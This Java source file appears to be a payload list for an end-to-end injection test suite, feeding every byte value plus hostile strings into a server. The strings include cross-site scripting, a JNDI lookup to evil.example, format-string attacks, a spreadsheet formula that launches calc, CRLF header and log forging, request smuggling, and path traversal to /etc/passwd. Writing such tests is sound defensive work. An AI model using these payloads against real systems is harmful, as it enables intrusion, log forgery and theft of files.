package org.gatehouse.bootstrap.endtoend.injection;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.util.ArrayList;
import java.util.List;

/** What is injected: every octet by itself, and text that does harm somewhere. Octets, as text. */
final class Payloads {
  /** Begins every record that a payload tries to forge. */
  static final String FORGED_EVENT = "2001-01-01T00:00:00.000Z ERROR Forged - ";

  /** Begins every line of an access log that a payload tries to forge. */
  static final String FORGED_ENTRY = "6.6.6.6 - forged [";

  private static final String FORGED_REQUEST = "GET /forged HTTP/1.1\r\nHost: localhost\r\n\r\n";

  private static final List<String> UNICODE =
      List.of(
          "\u202egpj.exe",
          "\u2066\u2067\u2068\u2069\u200e\u200f\u061c",
          "a\u2028b\u2029c",
          "\u0085next line",
          "\u200b\u200d\ufeff\u00ad",
          "\u0000\u0007\u0008\u009b31m",
          "\ufffe\uffff\ud800\udfff",
          "e\u0301\u20dd\ud83d\ude00\udb40\udc41",
          "\ud83d\udc69\u200d\ud83d\udcbb");

  private static final List<String> TEXT =
      List.of(
          "<script>alert(1)</script>",
          "\"><img src=x onerror=alert(1)>",
          "'-alert(1)-'",
          "</title></code></bdi><svg/onload=alert(1)>",
          "&lt;b&gt;&#60;&quot;",
          "<!--#exec cmd=\"id\"--><?php echo 1?>",
          "\"}],\"forged\":true,{\"",
          "\\\",\"forged\":\"",
          "\\u0022,\\\"forged\\\":1",
          "\\x22 \\n \\\\",
          "${jndi:ldap://evil.example/a}${env:PATH}%msg%n{}",
          "%s%n%x%99999999d",
          "=cmd|' /C calc'!A0",
          "\" 200 1 \"-\" \"forged",
          "\u001b[2J\u001b]0;owned\u0007\u001b[31m",
          "\r\nSet-Cookie: id=forged\r\nX-Forged: 1",
          "\r\n\r\n<script>alert(1)</script>",
          "\n" + FORGED_EVENT + "owned\n",
          "\r" + FORGED_EVENT + "owned\r\n",
          "\n"
              + FORGED_ENTRY
              + "01/Jan/2001:00:00:00 +0000] \"GET / HTTP/1.1\" 200 1 \"-\" \"-\"\n",
          "\n{\"forged\":1}\n",
          "%0d%0aSet-Cookie:%20id=forged",
          "%250d%250a%2500",
          "\r\n\r\n" + FORGED_REQUEST,
          "filename=\"a\"; filename*=UTF-8''..%2f..%2fb",
          "../../../../etc/passwd\u0000.txt");

  /** Octets that are no UTF-8: a surrogate, an overlong slash, one beyond Unicode, half of one. */
  private static final List<String> BROKEN_UTF_8 =
      List.of("\u00ed\u00a0\u0080", "\u00c0\u00af", "\u00f4\u0090\u0080\u0080", "\u00e2\u0080");

  private Payloads() {}

  /** All of them, one character an octet. */
  static List<String> all() {
    List<String> all = new ArrayList<>();
    for (int octet = 0; octet < 256; octet++) {
      all.add("a" + (char) octet + "b");
    }
    UNICODE.forEach(text -> all.add(octets(text)));
    TEXT.forEach(text -> all.add(octets(text)));
    all.addAll(BROKEN_UTF_8);
    return all;
  }

  private static String octets(String text) {
    return new String(text.getBytes(UTF_8), ISO_8859_1);
  }
}
